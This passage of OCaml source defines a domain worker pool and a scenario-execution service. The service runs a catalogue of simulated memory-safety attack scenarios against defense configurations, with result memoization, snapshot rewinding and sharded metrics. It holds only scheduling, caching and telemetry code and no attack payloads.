(** A fixed-size pool of OCaml 5 domains draining per-worker job queues
    with work stealing.

    Submissions are placed round-robin across per-worker queues; a worker
    drains its own queue first and steals from its siblings when empty,
    so the hot dispatch path touches one per-queue lock instead of
    rendezvousing every domain on a shared one. The total queued count is
    still bounded: {!submit} blocks once [queue_cap] jobs are waiting
    across all queues. Each worker owns a private context built by
    [mk_ctx] inside its own domain — per-worker caches live there, so no
    state is shared between domains without a lock. *)

type 'ctx t

type 'a future

val clamp_jobs : int -> int
(** At least 1, at most [Domain.recommended_domain_count] (never below a
    ceiling of 4, so concurrency tests still exercise the parallel path on
    small hosts). *)

val create :
  ?queue_cap:int ->
  ?minor_words:int ->
  jobs:int ->
  mk_ctx:(unit -> 'ctx) ->
  unit ->
  'ctx t
(** Spawn [clamp_jobs jobs] worker domains, each owning one queue.
    [queue_cap] (default 64) bounds the total number of
    queued-but-unstarted jobs across all queues. Each worker grows its
    domain-local minor heap to [minor_words] words (default 4M) before
    taking work: minor collections are stop-the-world across all domains,
    and the runtime default period makes an allocation-heavy pool spend
    more time at GC barriers than executing.
    @raise Invalid_argument on a non-positive [queue_cap]. *)

val jobs : 'ctx t -> int
(** The effective (clamped) worker count. *)

val submit : ?notify:(unit -> unit) -> 'ctx t -> ('ctx -> 'a) -> 'a future
(** Enqueue a job; blocks while the queue is full (backpressure).
    [notify] runs on the worker right after the future is fulfilled (its
    exceptions are swallowed) — the hook an event loop uses to wake
    itself when the result becomes peekable.
    @raise Invalid_argument after {!shutdown}. *)

val try_submit :
  ?notify:(unit -> unit) -> 'ctx t -> ('ctx -> 'a) -> 'a future option
(** Non-blocking {!submit}: [None] when the queue is full or the pool is
    shutting down. Admission control for callers that must never stall —
    a server sheds load instead of blocking its accept loop. *)

val await : 'a future -> 'a
(** Block until the job completes; re-raises the job's exception. *)

val peek : 'a future -> ('a, exn) result option
(** Non-blocking: [None] while the job is pending. *)

val shutdown : 'ctx t -> unit
(** Stop accepting work, drain the queue, join the worker domains. *)
