(** The scenario-execution service: runs catalogue jobs on a {!Pool} of
    domain workers, rewinding prepared machine snapshots between requests
    and memoizing results by [(scenario, config, chaos seed, input hash,
    sanitize, engine)].

    Replies are derived purely from per-job state, so a batch at any
    worker count is verdict-identical to the sequential {!Driver.run}. *)

module Catalog = Pna_attacks.Catalog
module Driver = Pna_attacks.Driver
module Config = Pna_defense.Config

(** {1 Jobs and replies} *)

type job = {
  j_attack : Catalog.t;
  j_config : Config.t;
  j_chaos_seed : int option;
      (** [Some s]: run supervised under [Plan.generate ~seed:s] *)
  j_max_steps : int option;  (** per-job deadline in interpreter steps *)
  j_sanitize : bool;
      (** attach the PNASan oracle; plain runs only — a chaos job ignores
          it (supervision rebuilds machines mid-run). Defaults to
          {!Driver.env_sanitize} so a [PNA_SANITIZE=1] process sanitizes
          pooled and sequential runs alike. *)
  j_engine : Driver.engine;
      (** which execution engine drives the run (default
          {!Driver.env_engine}). Part of every prepared-cache and memo
          key — the engines are observationally identical (the E19
          gate), but the service never assumes the theorem it exists to
          exercise, so mixed-engine batches keep separate entries. A
          bytecode job's prepared scenario carries its compiled unit,
          so rewound runs reuse the compilation. *)
  j_trace : (int * int) option;
      (** (trace id, parent span) — the worker retroactively records its
          queue wait as a span under this parent and runs the job with
          the trace context installed, so job/run/verdict spans link
          into the submitter's trace. Never part of the memo key. *)
}

val job :
  ?chaos_seed:int ->
  ?max_steps:int ->
  ?sanitize:bool ->
  ?engine:Driver.engine ->
  ?config:Config.t ->
  ?trace:int * int ->
  Catalog.t ->
  job

type reply = {
  r_id : string;
  r_config : string;
  r_chaos_seed : int option;
  r_status : string;  (** rendered outcome status *)
  r_success : bool;
  r_detail : string;
  r_attempts : int;  (** supervised retries; 1 for plain runs *)
  r_cached : bool;  (** served from the memo cache without executing *)
  r_violations : int;
      (** sanitizer violation records; 0 unless the job sanitized *)
}

val reply_of_result : ?chaos_seed:int -> Driver.result -> reply
(** What the service would reply for a sequential driver result — the
    comparison point for determinism checks. *)

val reply_of_supervised : ?chaos_seed:int -> Driver.supervised -> reply
val pp_reply : Format.formatter -> reply -> unit

(** {1 Statistics} *)

type stats = {
  st_jobs : int;
  st_memo_hits : int;
  st_memo_misses : int;
  st_memo_evictions : int;  (** LRU entries dropped at the cap *)
  st_snapshot_restores : int;  (** machine rewinds in place of loads *)
  st_fresh_loads : int;  (** machines actually built from programs *)
  st_replica_clones : int;
      (** domain-local replicas thawed from the shared image store — one
          worker pays the loader per key, every other domain clones *)
  st_outcomes : (string * int) list;  (** status key -> count, sorted *)
  st_queue_wait_us : int * float;  (** (observations, total µs) queued *)
  st_execute_us : int * float;  (** (observations, total µs) executing *)
}

val status_key : Pna_minicpp.Outcome.status -> string
val pp_stats : Format.formatter -> stats -> unit

val pp_stats_line : Format.formatter -> stats -> unit
(** Compact [memo h/m  images R/L/C] form for tabular reports. *)

val stats_json : stats -> Pna_telemetry.Jsonx.t
(** Machine-readable form of {!pp_stats} for [--json] CLI output. *)

(** {1 Lifecycle} *)

type t

val create :
  ?jobs:int ->
  ?queue_cap:int ->
  ?memo:bool ->
  ?memo_cap:int ->
  ?prepared_cap:int ->
  unit ->
  t
(** [jobs] defaults to [Domain.recommended_domain_count] and is clamped by
    {!Pool.clamp_jobs}; [queue_cap] bounds the job queue (backpressure);
    [memo] (default true) enables the result cache; [memo_cap] (default
    65536) bounds total memo entries — each of the 16 shards holds an LRU
    of [memo_cap/16], so multi-hour soaks cannot grow memory without
    limit; [prepared_cap] (default 16) bounds each worker's
    prepared-machine cache. *)

val jobs : t -> int
(** Effective worker count. *)

val stats : t -> stats
(** Aggregated over the per-worker metric shards. Job accounting is
    sharded per domain — workers touch only domain-local state between
    submit and reply — and merged here on demand. *)

val registry : t -> Pna_telemetry.Metrics.registry
(** The per-instance registry — counters [pna_service_jobs_total],
    [pna_service_memo_total{result}], [pna_memo_evictions_total],
    [pna_service_images_total{source}],
    [pna_service_outcomes_total{status}] and histograms
    [pna_service_queue_wait_us], [pna_service_execute_us]. Shard deltas
    are flushed into it on each call, so the external totals are the
    same as when every job wrote the registry directly. *)

val memo_evictions : t -> int
(** Total memo entries evicted at the LRU cap since creation. *)

val pp_prometheus : Format.formatter -> t -> unit
(** Prometheus text-exposition dump of {!registry}. *)

val shutdown : t -> unit

(** {1 Execution} *)

val submit : ?notify:(unit -> unit) -> t -> job -> reply Pool.future
(** Enqueue one job; blocks only when the queue is full. [notify] runs on
    the worker right after the reply becomes peekable (see
    {!Pool.submit}). *)

val try_submit : ?notify:(unit -> unit) -> t -> job -> reply Pool.future option
(** Non-blocking {!submit}: [None] when the job queue is full or the
    service is shutting down — admission control for callers that shed
    load instead of stalling. *)

val exec : t -> job -> reply

(** {1 Memo persistence}

    Hooks the on-disk memo log attaches to: fresh memo entries stream out
    through the sink as they are computed, and a recovered log streams
    back in through {!preload_memo} at startup. *)

type memo_entry = {
  me_attack : string;
  me_config : string;
  me_chaos_seed : int option;
  me_input_hash : int;
  me_sanitize : bool;
  me_engine : string;
      (** {!Driver.engine_name} spelling; logs written before the engine
          field decode as ["interp"] *)
  me_reply : reply;
}

val set_memo_sink : t -> (memo_entry -> unit) option -> unit
(** [Some f]: call [f] for every entry newly added to the memo cache (on
    the worker domain that computed it — [f] must be thread-safe).
    Preloaded entries do not reach the sink. *)

val preload_memo : t -> memo_entry list -> int
(** Warm the cache from recovered log entries; existing keys are kept
    (first writer wins, matching the append-only log). Returns how many
    entries were actually loaded. *)

val run_batch : t -> job list -> reply list
(** Replies in submission order, whatever the pool interleaving. *)

(** {1 Canonical workloads} *)

val matrix_jobs : ?configs:Config.t list -> ?max_steps:int -> unit -> job list
(** The full attack x defense matrix as a job list. *)

val synth_stream : ?chaos_every:int -> seed:int -> n:int -> unit -> job list
(** A deterministic synthetic request stream over the catalogue; every
    [chaos_every]-th request (default 7) runs supervised under a seeded
    fault plan. *)

val now : unit -> float
val timed : (unit -> 'a) -> 'a * float
(** Time a thunk on the monotonic clock: (result, seconds). *)
