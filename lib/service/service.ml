(** The scenario-execution service: the catalogue as a throughput workload.

    Sequentially, every {!Driver.run} pays the full image build — layout,
    vtable emission, global initialisation — before a single interpreted
    step. This layer interposes prepared machine state instead (the same
    move as VRT's run-time table amortising per-call bookkeeping, or
    S3Library's substitution of a safer execution substrate):

    - a {!Pool} of domain workers drains a bounded job queue;
    - each worker keeps a cache of {!Driver.prepared} scenarios — a loaded
      machine plus its post-load {!Pna_machine.Machine.snapshot} — and
      rewinds instead of reloading between requests;
    - a memoizing result cache keyed by [(scenario, config, chaos seed,
      input hash)] serves repeated requests without executing at all.

    Replies are derived purely from per-job state, so a batch at any
    worker count is verdict-identical to the sequential driver. *)

module Catalog = Pna_attacks.Catalog
module Driver = Pna_attacks.Driver
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Outcome = Pna_minicpp.Outcome
module Plan = Pna_chaos.Plan
module Metrics = Pna_telemetry.Metrics
module Trace = Pna_telemetry.Trace
module Clock = Pna_telemetry.Clock
module Jsonx = Pna_telemetry.Jsonx

(* ------------------------------------------------------------------ *)
(* Jobs and replies                                                    *)

type job = {
  j_attack : Catalog.t;
  j_config : Config.t;
  j_chaos_seed : int option;
      (** [Some s]: run supervised under [Plan.generate ~seed:s] *)
  j_max_steps : int option;  (** per-job deadline in interpreter steps *)
  j_sanitize : bool;
      (** attach the PNASan oracle; plain runs only — a chaos job ignores
          it (supervision rebuilds machines mid-run) *)
  j_engine : Driver.engine;
      (** which execution engine drives the run; part of every prepared
          and memo key, so mixed-engine batches never share an entry *)
  j_trace : (int * int) option;
      (** (trace id, parent span) — worker-side spans link under the
          submitter's trace; never part of the memo key *)
}

let job ?chaos_seed ?max_steps ?(sanitize = Driver.env_sanitize)
    ?(engine = Driver.env_engine) ?(config = Config.none) ?trace
    attack =
  { j_attack = attack; j_config = config; j_chaos_seed = chaos_seed;
    j_max_steps = max_steps; j_sanitize = sanitize; j_engine = engine;
    j_trace = trace }

type reply = {
  r_id : string;
  r_config : string;
  r_chaos_seed : int option;
  r_status : string;  (** rendered {!Outcome.pp_status} *)
  r_success : bool;
  r_detail : string;
  r_attempts : int;  (** supervised retries; 1 for plain runs *)
  r_cached : bool;  (** served from the memo cache without executing *)
  r_violations : int;
      (** sanitizer violation records; 0 unless the job sanitized *)
}

let reply_of_result ?chaos_seed (r : Driver.result) =
  {
    r_id = r.Driver.attack.Catalog.id;
    r_config = r.Driver.config.Config.name;
    r_chaos_seed = chaos_seed;
    r_status = Fmt.str "%a" Outcome.pp_status r.Driver.outcome.Outcome.status;
    r_success = r.Driver.verdict.Catalog.success;
    r_detail = r.Driver.verdict.Catalog.detail;
    r_attempts = 1;
    r_cached = false;
    r_violations = List.length r.Driver.violations;
  }

let reply_of_supervised ?chaos_seed (s : Driver.supervised) =
  {
    r_id = s.Driver.sv_attack.Catalog.id;
    r_config = s.Driver.sv_config.Config.name;
    r_chaos_seed = chaos_seed;
    r_status = Fmt.str "%a" Outcome.pp_status s.Driver.sv_outcome.Outcome.status;
    r_success = s.Driver.sv_verdict.Catalog.success;
    r_detail = s.Driver.sv_verdict.Catalog.detail;
    r_attempts = s.Driver.sv_attempts;
    r_cached = false;
    r_violations = 0;
  }

let pp_reply ppf r =
  Fmt.pf ppf "%-16s %-14s %s%s: %s%s%s" r.r_id r.r_config
    (match r.r_chaos_seed with None -> "" | Some s -> Fmt.str "seed=%d " s)
    (if r.r_success then "ATTACK SUCCEEDED" else "attack failed")
    r.r_status
    (if r.r_violations > 0 then Fmt.str " [%d san]" r.r_violations else "")
    (if r.r_cached then " [memo]" else "")

(* ------------------------------------------------------------------ *)
(* Statistics                                                          *)

(* The aggregate view derived from the service's metrics registry — the
   registry is the single source of truth; this record is the stable
   reporting shape the CLI and tests consume. *)
type stats = {
  st_jobs : int;  (** replies produced *)
  st_memo_hits : int;
  st_memo_misses : int;
  st_memo_evictions : int;  (** LRU entries dropped at the cap *)
  st_snapshot_restores : int;  (** machine rewinds in place of loads *)
  st_fresh_loads : int;  (** machines actually built from programs *)
  st_replica_clones : int;
      (** domain-local replicas thawed from the shared image store —
          machines built by restoring a frozen snapshot instead of
          re-running the loader *)
  st_outcomes : (string * int) list;  (** status key -> count, sorted *)
  st_queue_wait_us : int * float;  (** (observations, total µs) queued *)
  st_execute_us : int * float;  (** (observations, total µs) executing *)
}

let status_key st =
  match (st : Outcome.status) with
  | Outcome.Exited _ -> "exited"
  | Outcome.Recovered _ -> "recovered"
  | Outcome.Crashed _ -> "crashed"
  | Outcome.Stack_smashing_detected -> "canary"
  | Outcome.Defense_blocked _ -> "blocked"
  | Outcome.Timeout _ -> "timeout"
  | Outcome.Out_of_memory -> "oom"
  | Outcome.Internal_error _ -> "internal-error"
  | Outcome.Arc_injection _ -> "arc-inj"
  | Outcome.Code_injection _ -> "code-inj"

(* compact single-line form for tabular reports *)
let pp_stats_line ppf s =
  Fmt.pf ppf "memo %d/%d  images %dR/%dL/%dC" s.st_memo_hits s.st_memo_misses
    s.st_snapshot_restores s.st_fresh_loads s.st_replica_clones

let mean_ms (n, total_us) =
  if n = 0 then 0. else total_us /. float_of_int n /. 1000.

let pp_stats ppf s =
  Fmt.pf ppf
    "@[<v>jobs: %d@,memo: %d hit / %d miss / %d evicted@,images: %d restored \
     / %d loaded / %d cloned@,queue wait: %.3f ms mean / execute: %.3f ms \
     mean@,outcomes: %a@]"
    s.st_jobs s.st_memo_hits s.st_memo_misses s.st_memo_evictions
    s.st_snapshot_restores s.st_fresh_loads s.st_replica_clones
    (mean_ms s.st_queue_wait_us)
    (mean_ms s.st_execute_us)
    Fmt.(list ~sep:(any " ") (pair ~sep:(any ":") string int))
    s.st_outcomes

let stats_json s : Jsonx.t =
  let hist name (n, total_us) =
    ( name,
      Jsonx.Obj
        [
          ("count", Jsonx.Int n);
          ("total_us", Jsonx.Float total_us);
          ("mean_ms", Jsonx.Float (mean_ms (n, total_us)));
        ] )
  in
  Jsonx.Obj
    [
      ("jobs", Jsonx.Int s.st_jobs);
      ("memo_hits", Jsonx.Int s.st_memo_hits);
      ("memo_misses", Jsonx.Int s.st_memo_misses);
      ("memo_evictions", Jsonx.Int s.st_memo_evictions);
      ("snapshot_restores", Jsonx.Int s.st_snapshot_restores);
      ("fresh_loads", Jsonx.Int s.st_fresh_loads);
      ("replica_clones", Jsonx.Int s.st_replica_clones);
      ( "outcomes",
        Jsonx.Obj (List.map (fun (k, n) -> (k, Jsonx.Int n)) s.st_outcomes) );
      hist "queue_wait" s.st_queue_wait_us;
      hist "execute" s.st_execute_us;
    ]

(* ------------------------------------------------------------------ *)
(* The service                                                         *)

(* A local histogram: the same log2 bucketing as the registry's, as
   plain mutable fields. One per shard and timing leg, written only by
   the owning worker domain; merged into the registry on export. *)
type lhist = {
  mutable lh_count : int;
  mutable lh_sum : float;  (* µs *)
  lh_buckets : int array;
}

let mk_lhist () = { lh_count = 0; lh_sum = 0.; lh_buckets = Array.make 64 0 }

let lh_observe lh v =
  lh.lh_count <- lh.lh_count + 1;
  lh.lh_sum <- lh.lh_sum +. v;
  let i = Metrics.bucket_of v in
  lh.lh_buckets.(i) <- lh.lh_buckets.(i) + 1

(* Per-worker metrics shard. Between submit and reply a worker touches
   only this (and its memo shard): plain mutable ints bumped without
   synchronization, so job accounting never rendezvouses domains on a
   shared cache line or registry mutex. [sh_mutex] guards only the
   outcome table (its resizes must not race the export reader); counter
   fields are single-word and read racily by exporters, exactly when a
   racy read is observable only mid-batch. *)
type shard = {
  mutable sh_jobs : int;
  mutable sh_hits : int;
  mutable sh_misses : int;
  mutable sh_restores : int;
  mutable sh_loads : int;
  mutable sh_replicas : int;
  sh_mutex : Mutex.t;
  sh_outcomes : (string, int) Hashtbl.t;  (* status key -> count *)
  sh_queue_wait : lhist;
  sh_execute : lhist;
}

let mk_shard () =
  {
    sh_jobs = 0;
    sh_hits = 0;
    sh_misses = 0;
    sh_restores = 0;
    sh_loads = 0;
    sh_replicas = 0;
    sh_mutex = Mutex.create ();
    sh_outcomes = Hashtbl.create 16;
    sh_queue_wait = mk_lhist ();
    sh_execute = mk_lhist ();
  }

(* Per-worker context: the prepared-scenario cache plus this worker's
   metrics shard. Machines are a couple of megabytes each (contents +
   taint, twice: live + snapshot), so the cache is bounded with FIFO
   eviction; hot scenarios stay prepared, a cold sweep degrades to
   load-per-job. *)
type ctx = {
  cx_prepared :
    (string * string * bool * string, Driver.prepared * int) Hashtbl.t;
      (** keyed by (scenario, config, sanitize, engine name): a bytecode
          prepared scenario owns a compiled unit alongside its snapshot,
          an interpreter one does not, so the two must never alias. The
          value is the prepared scenario + the hash of its attacker
          input; the input against a freshly rewound image is a pure
          function of the prepared scenario, so it is hashed once at
          load time and memo hits cost two table lookups with no
          machine work *)
  cx_order : (string * string * bool * string) Queue.t;
  cx_cap : int;
  cx_shard : shard;
}

type memo_key = string * string * int option * int * bool * string

(* The memo cache, sharded by key hash with one lock per shard so
   concurrent lookups from different workers almost never contend (the
   old design funneled every lookup and store through one global
   mutex).

   Each shard is a bounded LRU: entries carry a last-use generation and
   the order queue holds (key, generation) stamps. A hit re-stamps the
   entry and enqueues a fresh stamp; eviction pops stamps from the front
   and only trusts one that still matches its entry — stale stamps (the
   entry was used again later) are discarded. This keeps hits O(1) with
   no list splicing, at the cost of lazy deletion in the queue, which
   [compact_order] bounds. *)
let memo_shard_count = 16  (* power of two: shard = hash land (n-1) *)

type memo_shard = {
  ms_mutex : Mutex.t;
  ms_tbl : (memo_key, reply * int ref) Hashtbl.t;  (* reply + last-use gen *)
  ms_order : (memo_key * int) Queue.t;  (* (key, gen at stamp time) *)
  mutable ms_gen : int;
  mutable ms_evictions : int;
}

type memo = {
  mc_shards : memo_shard array;
  mc_cap : int;  (** per-shard entry cap *)
}

let mk_memo ~cap =
  {
    mc_shards =
      Array.init memo_shard_count (fun _ ->
          {
            ms_mutex = Mutex.create ();
            ms_tbl = Hashtbl.create 32;
            ms_order = Queue.create ();
            ms_gen = 0;
            ms_evictions = 0;
          });
    mc_cap = max 1 (cap / memo_shard_count);
  }

let memo_shard_of key = Hashtbl.hash key land (memo_shard_count - 1)

let stamp ms key genref =
  ms.ms_gen <- ms.ms_gen + 1;
  genref := ms.ms_gen;
  Queue.add (key, ms.ms_gen) ms.ms_order

(* Drop stale stamps so the order queue stays proportional to the table.
   A fresh head is re-stamped to the back — a bounded pass, since at most
   [cap] live entries can be fresh. *)
let compact_order ms ~cap =
  if Queue.length ms.ms_order > 4 * cap then begin
    let budget = ref (Queue.length ms.ms_order) in
    while Queue.length ms.ms_order > 2 * cap && !budget > 0 do
      decr budget;
      match Queue.take_opt ms.ms_order with
      | None -> budget := 0
      | Some (k, g) -> (
        match Hashtbl.find_opt ms.ms_tbl k with
        | Some (_, gr) when !gr = g -> stamp ms k gr
        | _ -> ())
    done
  end

let evict_lru ms ~cap =
  let give_up = ref false in
  while Hashtbl.length ms.ms_tbl > cap && not !give_up do
    match Queue.take_opt ms.ms_order with
    | None -> give_up := true  (* unreachable: every entry has a stamp *)
    | Some (k, g) -> (
      match Hashtbl.find_opt ms.ms_tbl k with
      | Some (_, gr) when !gr = g ->
        Hashtbl.remove ms.ms_tbl k;
        ms.ms_evictions <- ms.ms_evictions + 1
      | _ -> ())
  done

(* Registry-backed instrumentation, one registry per service instance so
   tests (and parallel services) see isolated counters. The interned
   instruments are held directly; outcome counters are keyed by status
   and interned on flush. *)
type instruments = {
  i_registry : Metrics.registry;
  i_jobs : Metrics.counter;
  i_memo_hit : Metrics.counter;
  i_memo_miss : Metrics.counter;
  i_restores : Metrics.counter;
  i_loads : Metrics.counter;
  i_replicas : Metrics.counter;
  i_evictions : Metrics.counter;
  i_queue_wait : Metrics.histogram;  (** µs from submit to dequeue *)
  i_execute : Metrics.histogram;  (** µs executing (memo hits excluded) *)
}

let mk_instruments () =
  let reg = Metrics.create () in
  {
    i_registry = reg;
    i_jobs = Metrics.counter reg "pna_service_jobs_total";
    i_memo_hit =
      Metrics.counter reg "pna_service_memo_total" ~labels:[ ("result", "hit") ];
    i_memo_miss =
      Metrics.counter reg "pna_service_memo_total"
        ~labels:[ ("result", "miss") ];
    i_restores =
      Metrics.counter reg "pna_service_images_total"
        ~labels:[ ("source", "snapshot_restore") ];
    i_loads =
      Metrics.counter reg "pna_service_images_total"
        ~labels:[ ("source", "fresh_load") ];
    i_replicas =
      Metrics.counter reg "pna_service_images_total"
        ~labels:[ ("source", "replica_thaw") ];
    i_evictions = Metrics.counter reg "pna_memo_evictions_total";
    i_queue_wait = Metrics.histogram reg "pna_service_queue_wait_us";
    i_execute = Metrics.histogram reg "pna_service_execute_us";
  }

(* What has already been flushed from the shards into the registry, so
   a flush publishes only deltas and repeated exports stay idempotent. *)
type published = {
  mutable p_jobs : int;
  mutable p_hits : int;
  mutable p_misses : int;
  mutable p_restores : int;
  mutable p_loads : int;
  mutable p_replicas : int;
  mutable p_evictions : int;
  p_outcomes : (string, int) Hashtbl.t;
  p_queue_wait : lhist;
  p_execute : lhist;
}

(* A memo entry in portable form: the full key fields plus the reply —
   what the persistence layer appends to its log and feeds back through
   [preload_memo] on recovery. *)
type memo_entry = {
  me_attack : string;
  me_config : string;
  me_chaos_seed : int option;
  me_input_hash : int;
  me_sanitize : bool;
  me_engine : string;
      (** {!Driver.engine_name} spelling; older logs without the field
          decode as ["interp"] *)
  me_reply : reply;
}

type t = {
  pool : ctx Pool.t;
  shards : shard list Atomic.t;  (** one per worker, registered at spawn *)
  images : (string * string * bool * string, Driver.image) Hashtbl.t;
      (** the shared frozen-image store, same key as [cx_prepared]. The
          first worker to miss on a key pays [Driver.prepare] and
          publishes the frozen image; every other domain thaws a local
          replica from it instead of re-running the loader. Entries are
          immutable and never evicted — one image per (scenario, config,
          sanitize, engine) point, bounded by the catalogue. *)
  images_mutex : Mutex.t;  (** guards [images]; cold path only *)
  memo : memo option;  (** [None]: memoization off *)
  memo_sink : (memo_entry -> unit) option Atomic.t;
      (** mirrors fresh memo entries; runs on the worker that computed
          them *)
  ins : instruments;
  flush_mutex : Mutex.t;
  pub : published;
}

let default_memo_cap = 65_536

let create ?(jobs = Domain.recommended_domain_count ()) ?queue_cap
    ?(memo = true) ?(memo_cap = default_memo_cap) ?(prepared_cap = 16) () =
  if prepared_cap < 1 then
    invalid_arg "Service.create: prepared_cap must be positive";
  if memo_cap < 1 then
    invalid_arg "Service.create: memo_cap must be positive";
  let shards = Atomic.make [] in
  let register sh =
    let rec go () =
      let cur = Atomic.get shards in
      if not (Atomic.compare_and_set shards cur (sh :: cur)) then go ()
    in
    go ()
  in
  (* runs inside each worker domain at spawn *)
  let mk_ctx () =
    let sh = mk_shard () in
    register sh;
    {
      cx_prepared = Hashtbl.create prepared_cap;
      cx_order = Queue.create ();
      cx_cap = prepared_cap;
      cx_shard = sh;
    }
  in
  {
    pool = Pool.create ?queue_cap ~jobs ~mk_ctx ();
    shards;
    images = Hashtbl.create 64;
    images_mutex = Mutex.create ();
    memo = (if memo then Some (mk_memo ~cap:memo_cap) else None);
    memo_sink = Atomic.make None;
    ins = mk_instruments ();
    flush_mutex = Mutex.create ();
    pub = {
      p_jobs = 0;
      p_hits = 0;
      p_misses = 0;
      p_restores = 0;
      p_loads = 0;
      p_replicas = 0;
      p_evictions = 0;
      p_outcomes = Hashtbl.create 16;
      p_queue_wait = mk_lhist ();
      p_execute = mk_lhist ();
    };
  }

let jobs t = Pool.jobs t.pool

let memo_evictions t =
  match t.memo with
  | None -> 0
  | Some mc ->
    Array.fold_left
      (fun a ms ->
        Mutex.lock ms.ms_mutex;
        let n = a + ms.ms_evictions in
        Mutex.unlock ms.ms_mutex;
        n)
      0 mc.mc_shards

(* -- shard aggregation --------------------------------------------- *)

let fold_shards t f init = List.fold_left f init (Atomic.get t.shards)

let merged_outcomes t =
  let acc = Hashtbl.create 16 in
  List.iter
    (fun sh ->
      Mutex.lock sh.sh_mutex;
      Hashtbl.iter
        (fun k n ->
          Hashtbl.replace acc k (n + Option.value ~default:0 (Hashtbl.find_opt acc k)))
        sh.sh_outcomes;
      Mutex.unlock sh.sh_mutex)
    (Atomic.get t.shards);
  acc

let merged_lhist t leg =
  let total = mk_lhist () in
  List.iter
    (fun sh ->
      let lh = leg sh in
      total.lh_count <- total.lh_count + lh.lh_count;
      total.lh_sum <- total.lh_sum +. lh.lh_sum;
      Array.iteri
        (fun i n -> total.lh_buckets.(i) <- total.lh_buckets.(i) + n)
        lh.lh_buckets)
    (Atomic.get t.shards);
  total

(* Flush shard deltas into the registry. Exports (prometheus dump, JSON,
   [registry]) see the same external totals the per-job registry writes
   used to produce — the sharding only moves *when* the shared structure
   is touched from per-job to per-export. *)
let flush t =
  Mutex.lock t.flush_mutex;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.flush_mutex) @@ fun () ->
  let i = t.ins and p = t.pub in
  let counter_delta total pub set ins =
    if total > pub then begin
      Metrics.incr ~by:(total - pub) ins;
      set total
    end
  in
  counter_delta (fold_shards t (fun a sh -> a + sh.sh_jobs) 0) p.p_jobs
    (fun v -> p.p_jobs <- v) i.i_jobs;
  counter_delta (fold_shards t (fun a sh -> a + sh.sh_hits) 0) p.p_hits
    (fun v -> p.p_hits <- v) i.i_memo_hit;
  counter_delta (fold_shards t (fun a sh -> a + sh.sh_misses) 0) p.p_misses
    (fun v -> p.p_misses <- v) i.i_memo_miss;
  counter_delta (fold_shards t (fun a sh -> a + sh.sh_restores) 0) p.p_restores
    (fun v -> p.p_restores <- v) i.i_restores;
  counter_delta (fold_shards t (fun a sh -> a + sh.sh_loads) 0) p.p_loads
    (fun v -> p.p_loads <- v) i.i_loads;
  counter_delta (fold_shards t (fun a sh -> a + sh.sh_replicas) 0) p.p_replicas
    (fun v -> p.p_replicas <- v) i.i_replicas;
  counter_delta (memo_evictions t) p.p_evictions
    (fun v -> p.p_evictions <- v) i.i_evictions;
  Hashtbl.iter
    (fun k total ->
      let pub = Option.value ~default:0 (Hashtbl.find_opt p.p_outcomes k) in
      if total > pub then begin
        Metrics.incr ~by:(total - pub)
          (Metrics.counter i.i_registry "pna_service_outcomes_total"
             ~labels:[ ("status", k) ]);
        Hashtbl.replace p.p_outcomes k total
      end)
    (merged_outcomes t);
  let flush_hist leg pub ins =
    let total = merged_lhist t leg in
    if total.lh_count > pub.lh_count then begin
      let buckets =
        Array.init 64 (fun b -> total.lh_buckets.(b) - pub.lh_buckets.(b))
      in
      Metrics.absorb ins ~count:(total.lh_count - pub.lh_count)
        ~sum:(total.lh_sum -. pub.lh_sum) ~buckets;
      pub.lh_count <- total.lh_count;
      pub.lh_sum <- total.lh_sum;
      Array.blit total.lh_buckets 0 pub.lh_buckets 0 64
    end
  in
  flush_hist (fun sh -> sh.sh_queue_wait) p.p_queue_wait i.i_queue_wait;
  flush_hist (fun sh -> sh.sh_execute) p.p_execute i.i_execute

let registry t =
  flush t;
  t.ins.i_registry

let pp_prometheus ppf t = Metrics.pp_prometheus ppf (registry t)

let stats t =
  let outcomes =
    Hashtbl.fold (fun k n acc -> (k, n) :: acc) (merged_outcomes t) []
    |> List.sort compare
  in
  let qw = merged_lhist t (fun sh -> sh.sh_queue_wait) in
  let ex = merged_lhist t (fun sh -> sh.sh_execute) in
  {
    st_jobs = fold_shards t (fun a sh -> a + sh.sh_jobs) 0;
    st_memo_hits = fold_shards t (fun a sh -> a + sh.sh_hits) 0;
    st_memo_misses = fold_shards t (fun a sh -> a + sh.sh_misses) 0;
    st_memo_evictions = memo_evictions t;
    st_snapshot_restores = fold_shards t (fun a sh -> a + sh.sh_restores) 0;
    st_fresh_loads = fold_shards t (fun a sh -> a + sh.sh_loads) 0;
    st_replica_clones = fold_shards t (fun a sh -> a + sh.sh_replicas) 0;
    st_outcomes = outcomes;
    st_queue_wait_us = (qw.lh_count, qw.lh_sum);
    st_execute_us = (ex.lh_count, ex.lh_sum);
  }

let shutdown t = Pool.shutdown t.pool

(* --- worker-side execution --- *)

(* The worker's prepared scenario for a job, three tiers deep:

   1. the worker's own [cx_prepared] — domain-local, no synchronization,
      the hot path for every repeat of a warm key;
   2. the service-wide frozen-image store — on a local miss, thaw a
      domain-local replica from the shared image (a snapshot restore,
      ~three orders of magnitude cheaper than the loader) rather than
      re-deriving it;
   3. [Driver.prepare] — the one true cold path. The resulting image is
      frozen and published first-writer-wins, so concurrent cold misses
      on the same key waste at most one duplicate load each.

   Replicas never cross domains: the shared store holds only immutable
   images; every machine a worker touches was built on that worker. *)
let prepared_for t ctx (j : job) =
  let key =
    ( j.j_attack.Catalog.id,
      j.j_config.Config.name,
      j.j_sanitize,
      Driver.engine_name j.j_engine )
  in
  match Hashtbl.find_opt ctx.cx_prepared key with
  | Some entry -> entry
  | None ->
    let shared =
      Mutex.lock t.images_mutex;
      let im = Hashtbl.find_opt t.images key in
      Mutex.unlock t.images_mutex;
      im
    in
    let p =
      match shared with
      | Some im ->
        let p = Driver.thaw im in
        ctx.cx_shard.sh_replicas <- ctx.cx_shard.sh_replicas + 1;
        p
      | None ->
        let p =
          Driver.prepare ~config:j.j_config ~sanitize:j.j_sanitize
            ~engine:j.j_engine j.j_attack
        in
        ctx.cx_shard.sh_loads <- ctx.cx_shard.sh_loads + 1;
        let im = Driver.freeze p in
        Mutex.lock t.images_mutex;
        if not (Hashtbl.mem t.images key) then Hashtbl.add t.images key im;
        Mutex.unlock t.images_mutex;
        p
    in
    let entry = (p, Hashtbl.hash (Driver.prepared_input p)) in
    if Hashtbl.length ctx.cx_prepared >= ctx.cx_cap then begin
      match Queue.take_opt ctx.cx_order with
      | Some oldest -> Hashtbl.remove ctx.cx_prepared oldest
      | None -> ()
    end;
    Hashtbl.replace ctx.cx_prepared key entry;
